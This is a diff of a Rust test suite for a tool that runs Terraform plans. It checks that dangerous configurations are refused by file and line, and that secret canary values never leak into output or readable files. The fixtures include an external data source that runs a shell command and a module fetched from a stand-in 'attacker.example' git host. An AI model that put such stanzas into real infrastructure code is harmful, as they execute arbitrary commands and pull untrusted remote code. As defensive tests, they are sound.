@@ -5,7 +5,6 @@
 use crate::kit::scene::{Scene, change_of};
 use crate::kit::terraform::{Terraform, files_with};
 use rstest::rstest;
-use serde_json::Value;
 use std::path::{Path, PathBuf};
 
 /// A folder of HCL as somebody wrote it, with a local module and a file of values.
@@ -114,23 +113,18 @@ fn a_file_that_moved_after_the_plan_supersedes_it() {
 #[case::external("data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"id > ran\"]\n}\n", 1)]
 #[case::http("\ndata \"http\" \"x\" {\n  url = \"http://127.0.0.1:1/\"\n}\n", 2)]
 #[case::foreign_state("data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n}\n", 1)]
-#[case::module("module \"m\" {\n  source = \"git::https://attacker.example/m.git\"\n}\n", 2)]
+#[case::module("module \"m\" {\n  source = \"git::https://attacker.example/m.git\"\n}\n", 1)]
 fn what_could_run_or_reach_out_is_refused_by_file_and_line(#[case] text: &str, #[case] line: usize) {
     for terraform in Terraform::each() {
         let (scene, folder) = named(&terraform, &[("main.tf", text)]);
         let finished = plan(&scene, &folder);
         assert_ne!(finished.code, Some(4), "{}", finished.words());
         let words = finished.words();
-        assert!(words.contains("CM-4028") && words.contains("main.tf"), "{words}");
-        let told = finished.events().iter().any(|event| points_at(event, line));
-        assert!(told, "line {line} is named: {words}");
+        assert!(words.contains("CM-4028"), "{words}");
+        assert!(words.contains(&format!("main.tf, line {line}")), "line {line} is named: {words}");
         let left: Vec<_> = std::fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().file_name()).collect();
         assert_eq!(left, ["main.tf"], "nothing was started");
     }
-}
-
-fn points_at(event: &Value, line: usize) -> bool {
-    event.to_string().contains(&format!("main.tf:{line}")) || event["facts"]["line"] == line.to_string()
 }
 
 #[test]
@@ -151,18 +145,47 @@ fn a_sensitive_value_is_nowhere_after_the_whole_way_and_its_change_is_seen() {
     for terraform in Terraform::each() {
         let text = "variable \"password\" {\n  sensitive = true\n  type = string\n}\n\
             resource \"terraform_data\" \"login\" { input = { user = \"ada\", password = var.password } }\n";
-        let first = [("main.tf", text), ("secret.auto.tfvars", "password = \"CANARY-4f9a1c77d2\"\n")];
-        let (scene, folder) = named(&terraform, &first);
-        let create = change_of(&plan(&scene, &folder).ended(4).events());
-        let mut said = scene.run(&["show", &create]).words() + &scene.run(&["--json", "show", &create]).words();
-        said += &scene.run(&["approve", &create]).ended(0).words();
-        std::fs::write(folder.join("secret.auto.tfvars"), "password = \"CANARY-8b02e6d3aa\"\n").unwrap();
-        let edit = change_of(&plan(&scene, &folder).ended(4).events());
-        said += &scene.run(&["show", &edit]).words();
-        assert!(scene.card(&edit).to_string().contains("\"update\""), "the change is seen: {}", scene.card(&edit));
-        said += &scene.run(&["approve", &edit, "--json"]).ended(0).words();
+        let lines = "[environments.dev.terraform.credentials]\nTF_VAR_password = \"env:LOGIN\"\n\
+            [environments.dev.terraform.roots]\nlogin = \"{root}/login\"\n";
+        let mut scene = Scene::with_config(&terraform.config_with(lines));
+        let folder = scene.path("login");
+        write(&folder, &[("main.tf", text)]);
+        let mut said = String::new();
+        for (value, action) in [("CANARY-4f9a1c77d2", "create"), ("CANARY-8b02e6d3aa", "update")] {
+            scene.set("LOGIN", value);
+            let planned = plan(&scene, &folder).ended(4);
+            let change = change_of(&planned.events());
+            let card = scene.card(&change).to_string();
+            assert!(card.contains(&format!("\"action\":\"{action}\"")), "the change is seen: {card}");
+            said += &(planned.words() + &card + &scene.run(&["show", &change]).words());
+            said += &scene.run(&["approve", &change]).ended(0).words();
+            said += &scene.run(&["show", &change]).words();
+        }
         said += &scene.run(&["audit", "show"]).words();
         assert!(!said.contains("CANARY-"), "it was said");
-        assert_eq!(files_with(&scene.data(), "CANARY-"), Vec::<String>::new(), "it is in the data folder");
+        // Terraform itself writes it into states; nobody else may read those.
+        let kept = files_with(&scene.path("home"), "CANARY-");
+        let readable = |file: &&String| !file.contains("/terraform/states/") || mode(Path::new(file.as_str())) != 0o600;
+        assert_eq!(kept.iter().filter(readable).collect::<Vec<_>>(), Vec::<&String>::new(), "it was kept");
+    }
+}
+
+fn mode(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt as _;
+    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
+}
+
+#[test]
+fn a_plan_that_waits_is_readable_by_nobody_else() {
+    for terraform in Terraform::each() {
+        let (scene, folder) = named(&terraform, &NETWORK);
+        plan(&scene, &folder).ended(4);
+        let scratch = scene.data().join("terraform/scratch");
+        let waiting: Vec<_> = std::fs::read_dir(scratch).unwrap().map(|entry| entry.unwrap().path()).collect();
+        assert_eq!(waiting.len(), 1, "{waiting:?}");
+        assert_eq!(mode(&waiting[0]), 0o700);
+        let open =
+            std::process::Command::new("find").arg(&waiting[0]).args(["-name", "*.bin", "-perm", "/077"]).output();
+        assert_eq!(String::from_utf8_lossy(&open.unwrap().stdout), "");
     }
 }
